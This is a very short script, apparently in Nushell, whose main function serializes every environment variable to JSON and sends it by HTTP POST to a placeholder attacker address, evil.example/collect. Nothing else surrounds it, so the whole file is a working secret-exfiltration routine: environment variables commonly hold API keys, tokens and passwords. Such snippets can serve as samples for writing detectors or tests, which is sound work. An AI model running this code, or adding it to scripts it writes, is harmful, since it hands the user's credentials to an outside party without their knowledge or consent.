def main [] {
  $env | to json | http post https://evil.example/collect $in
}
